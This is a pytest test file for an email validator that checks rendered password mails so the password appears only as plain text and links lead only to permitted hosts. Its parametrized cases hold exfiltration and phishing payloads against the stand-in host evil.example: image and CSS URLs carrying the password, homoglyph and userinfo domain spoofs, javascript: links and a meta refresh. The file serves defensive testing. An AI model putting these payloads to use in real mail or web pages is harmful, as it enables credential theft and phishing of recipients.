"""What was rendered is judged before it is sent: the password is plain text for its reader, and links lead where they may."""

from __future__ import annotations

from functools import partial

import pytest
from growth import assert_linear

from reconciler.mail.fitness import objections, stands_alone
from reconciler.mail.links import host_of, inert, links_elsewhere
from reconciler.mail.markup import html_of
from reconciler.mail.rendering import Rendered

PASSWORD = "k7qmw-4wtzx-r9xev-vb2ns-abcde-fghij"
HOSTS = frozenset(("accord.example.org",))


def of_text(text: str) -> list[str]:
    """What is wrong with a text."""
    return [each.about for each in objections(Rendered("s", text, html_of(PASSWORD)), HOSTS, PASSWORD)]


def of_page(html: str, subject: str = "s") -> list[str]:
    """What is wrong with a page."""
    return [each.about for each in objections(Rendered(subject, PASSWORD, html), HOSTS, PASSWORD)]


@pytest.mark.parametrize(
    "text",
    [
        "Your password: {}\nLog in at https://accord.example.org/.",
        "    alice\n    {}\n",
        "Password:{}",
        'It is "{}".',
        "({}), see http://ACCORD.example.org:8080/login?x=y (soon)",
        "«{}» 1 < 2",
        "{}\nwrite to pki@example.org or mailto:pki@example.org",
        "{}\nask host7.example.org, or see accord.example.org:8443 and Accord.example.org/login",
    ],
)
def test_ordinary_mails_are_fit(text: str) -> None:
    assert of_text(text.format(PASSWORD)) == []
    assert of_page(html_of(text.format(PASSWORD))) == []


@pytest.mark.parametrize(
    "text",
    [
        "none",
        "{} https://evil.example/{}",
        "{} www.evil.example/?{}",
        "{} evil.example/?p={}",
        "{} mailto:x@evil.example?body={}",
        "{}@evil.example",
        "{}.evil.example",
        "x{}",
        "https://evil.example/\u200b{}",
        "<https://evil.example/\n{}>",
        "https://accord.example.org/{}",
    ],
)
def test_the_password_is_never_part_of_an_address(text: str) -> None:
    assert "password" in of_text(text.replace("{}", PASSWORD))


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/",
        "HTTPS://evil.example",
        "https:\\\\evil.example",
        "https://accord.example.org@evil.example/",
        "https://accord.example.org:443@evil.example/",
        "https://accord.example.org\\@evil.example/",
        "https://accord.example.org.evil.example/",
        "https://accord.example.orgé.evil.example/",
        "https://accord.example.org%2eevil.example/",
        "https://evil.example\\accord.example.org/",
        "ftp://accord.example.org/",
        "www.evil.example",
        "evil.example/login",
        "evil.example:8443/login",
        "evil.example:8443",
        "evil.example?x",
        "www.еvil.рф/login",
        "еvil.рф/login",
        "evil\u3002example/login",
        "(evil.example/login)",
        "..evil..example/login",
        "see:evil.example/login",
        "1://evil.example/login",
        "x@evil.example/login",
        "https://accord.example.org/,evil.example/login",
    ],
)
def test_links_of_a_mail_with_a_password_lead_only_to_permitted_hosts(text: str) -> None:
    assert set(of_text(f"{PASSWORD} {text}")) == {"link"}
    assert "link" in of_page(f"<p>{PASSWORD}</p><p>{text}</p>")


@pytest.mark.parametrize(
    "html",
    [
        "<img src='https://evil.example/{}'>",
        "<img src='//evil.example/{}'>",
        "<p style='background: url(https://evil.example/{})'>",
        "<style>p { background: url(//evil.example/{}) }</style>",
        "<!--[if mso]><img src='https://evil.example/{}'><![endif]-->",
        "<a title='{}'>",
        "<a href='https://accord.example.org/{}'>log in</a>",
        "<textarea>{}</textarea>",
        "<p>evil.example/<b>{}</b></p>",
        "<p>https://accord.example.org/<span>{}</span></p>",
    ],
)
def test_the_password_is_only_text_of_the_page(html: str) -> None:
    assert {"password", "element"} & {*of_page(f"<p>{PASSWORD}</p>" + html.replace("{}", PASSWORD))}


@pytest.mark.parametrize(
    ("html", "about"),
    [
        ("<a href='https://accord.example.org/x'>log in</a>", None),
        ("<a href=' https://accord.example.org/x'>log in</a>", None),
        ("<a href='mailto:pki@example.org?subject=Help%20me'>help</a><a href='#top'>up</a><a href='tel:+4930'>call</a>", None),
        ("<img src='cid:logo'><img src='data:image/png;base64,AAAA'>", None),
        ("<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd'>", None),
        ("<html xmlns='http://www.w3.org/1999/xhtml'><meta charset=UTF-8><table><td width=7 bgcolor='#fff'>a</table>", None),
        ("<style>b > i { color: rgb(0, 0, 0) } @media (max-width: 600px) { b { color: red } }</style>", None),
        ("<a href='https://accord.example.org/?a=1&amp;b=2' title='Tom & Jerry'>log in</a>", None),
        ("<table><tr><td>a<table><tr><td>b</td></tr></table>c</td></tr></table>d", None),
        ("<a href='https://evil.example/'>log in</a>", "link"),
        ("<a href='//evil.example/'>log in</a>", "link"),
        ("<a href='ht\ntps://evil.example/'>log in</a>", "link"),
        ("<a href='https:evil.example/'>log in</a>", "link"),
        ("<a href='/x'>log in</a>", "link"),
        ("<a href='javascript:alert(1)'>log in</a>", "link"),
        ("<a href='https://accord.example.org/\\@evil.example'>log in</a>", "link"),
        ("<a href='https://accord.example.org@evil.example/'>log in</a>", "link"),
        ("<a href='mailto:pki@example.org?subject=Help me'>help</a>", "link"),
        ("<img src='cid:x https://evil.example/'>", "link"),
        ("<img src='data:image/svg+xml,x'>", "link"),
        ("<p title='evil.example/x'>", "link"),
        ("<a href='&#104;ttps://evil.example/'>log in</a>", "element"),
        ("<a href='https://accord.example.org&quotx@evil.example/'>log in</a>", "element"),
        ("<a href='https://accord.example.org/?a=1&b=2'>log in</a>", "element"),
        ("<a href=https://accord.example.org/>log in</a>", "element"),
        ("<img srcset='cid:x, https://evil.example/a 1x'>", "element"),
        ("<a ping='# https://evil.example/'>", "element"),
        ("<td background=//evil.example/a>", "element"),
        ("<a data-x='https://evil.example/'>", "element"),
        ("<a onclick='x'>", "element"),
        ("<p style='background: u\\72l(a)'>", "element"),
        ("<p style='background: url(https:/evil.example/a)'>", "element"),
        ("<p style='background: url(https:evil.example)'>", "element"),
        ("<p style='background: URL (x)'>", "element"),
        ("<p style='background: image-set(\"https:/evil.example/\" 1x)'>", "element"),
        ("<p style='background: myrgb(x)'>", "element"),
        ("<p style='background: u&#114;l(x)'>", "element"),
        ("<style>@import 'x'</style>", "element"),
        ("<style>@im\\port 'x'</style>", "element"),
        (
            "<style>@font-face { font-family: x; src: url(https\\:\\/\\/evil.example\\/A); unicode-range: U+41 }</style>",
            "element",
        ),
        ("<style>b {} </p><i></style>", "element"),
        ("<title><b></title>", "element"),
        ("<title>x", "element"),
        ("<!-- logo -->", "element"),
        ("<!-- --!><img alt='' src='https&#58;&#47;&#47;evil.example/? --><b>x</b><!-- '> -->", "element"),
        ("<!--[if mso]><a href='//evil.example'><![endif]-->", "element"),
        ("<![CDATA[x]]>", "element"),
        ("<?xml version='1.0'?>", "element"),
        ("<!ENTITY x>", "element"),
        ("</p onclick=x>", "element"),
        ("<p/title='x'>", "element"),
        ("<p title='x'class='y'>", "element"),
        ("<p title='>'>", "element"),
        ("<p title='x", "element"),
        ("<font size=#/>", "element"),
        ("<p\u00a0class=x>", "element"),
        ("1 < 2", "element"),
        ("<table>evil.<tr><td>a</td></tr>example</table>", "element"),
        ("<table><tr><td>a</td>b</tr></table>", "element"),
        ("<table><tr><td><table></table></td><b></b></tr></table>", "element"),
        ("<form>", "element"),
        ("<SCRIPT>", "element"),
        ("<svg>", "element"),
        ("<noscript>", "element"),
        ("<template>", "element"),
        ("<base target=x>", "element"),
        ("<meta http-equiv=refresh content='0'>", "element"),
        ("<meta charset=utf-7>", "element"),
    ],
)
def test_tags_lead_only_to_permitted_hosts_and_run_nothing(html: str, about: str | None) -> None:
    found = of_page(f"<p>{PASSWORD}</p>{html}")
    assert (found == []) if about is None else (about in found)


def test_the_subject_shows_no_password_and_leads_nowhere_else() -> None:
    assert of_page(PASSWORD, subject=f"hello {PASSWORD}") == ["password"]
    assert of_page(PASSWORD, subject="https://evil.example/") == ["link"]


def test_links_in_values_become_text_unless_their_host_is_permitted() -> None:
    text = "see https://accord.example.org/a, https://evil.example/b and spiffe://cluster/c"
    shown = inert(text, HOSTS)
    assert shown == "see https://accord.example.org/a, https[:]//evil.example/b and spiffe[:]//cluster/c"
    assert list(links_elsewhere(shown, HOSTS)) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("evil.example/x", "evil[.]example/x"),
        ("evil.example:8443/login", "evil[.]example:8443/login"),
        ("еvil.рф/login", "еvil[.]рф/login"),
        ("https://accord.example.org/a.html/b and accord.example.org/c", None),
        ("CN=www.shop.example.org,O=Example", None),
        ("/srv/tls/7.1/x 10.0.0.0/8 and/or 1.5/2", None),
    ],
)
def test_an_address_without_a_scheme_becomes_text_too(text: str, shown: str | None) -> None:
    assert inert(text, HOSTS) == inert(text, HOSTS, names=False) == (shown or text)
    assert list(links_elsewhere(inert(text, HOSTS), HOSTS)) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("www.evil.example", "www[.]evil[.]example"),
        ("WWW.еvil.рф/login", "WWW[.]еvil[.]рф/login"),
        ("help@evil.example", "help@evil[.]example"),
        ("mailto:help@evil.example", "mailto[:]help@evil[.]example"),
        ("Tel:+49 30", "Tel[:]+49 30"),
        ("https[:]//evil.example/x", None),
        ("www.accord.example.org", "www[.]accord[.]example[.]org"),
        ("pki@accord.example.org, accord.example.org/x", None),
        ("for shop.example.org, by hotel:7, in Node.js", None),
    ],
)
def test_in_unchecked_words_so_do_names_and_mail_addresses(text: str, shown: str | None) -> None:
    assert inert(text, HOSTS, names=True) == (shown or text)


def test_a_mail_without_a_password_has_no_addresses_of_other_hosts_either() -> None:
    mail = Rendered("evil.example/a", "www.shop.example.org evil.example:80", "<p>evil.example/b</p>")
    assert [each.field for each in objections(mail, HOSTS)] == ["subject", "text", "html"]


def test_the_host_of_a_link() -> None:
    assert host_of("https://[2001:db8::1]:8443/x") == "[2001:db8::1]"
    assert host_of("https://Accord.Example.org") == "accord.example.org"
    assert host_of("https://a_b.example/") is None
    assert host_of('https://accord.example.org"@evil.example/') is None
    assert host_of("https://accord.example.org/ x") is None


@pytest.mark.parametrize(
    "piece",
    [
        PASSWORD + " ",
        "<",
        "https://",
        "a.",
        "www.",
        "/*",
        "<a href=x>",
        "&lt;",
        "a/",
        "a@",
        "a-",
        "x=(",
        "<a b ",
        "<table>",
        "a..",
    ],
)
def test_judging_a_mail_takes_linear_time(piece: str) -> None:
    def judging(length: int) -> object:
        text = piece * (length // len(piece))
        return partial(lambda: list(objections(Rendered("s", text, text), HOSTS, PASSWORD)))

    assert_linear(judging, 1 << 11, 1 << 15)


def test_no_objection_quotes_the_password() -> None:
    evil = f"https://evil.example/a-rather-long-path-to-be-cut/{PASSWORD}"
    found = list(objections(Rendered(evil, f"{PASSWORD} {evil}", f"{PASSWORD} <a href='{evil}'>x</a>"), HOSTS, PASSWORD))
    assert len(found) > 5
    assert not any(PASSWORD[:4] in each.message for each in found)


def test_a_password_alone_is_found_wherever_it_stands() -> None:
    assert stands_alone(PASSWORD, PASSWORD)
    assert not stands_alone(f"{PASSWORD} a/{PASSWORD}", PASSWORD)
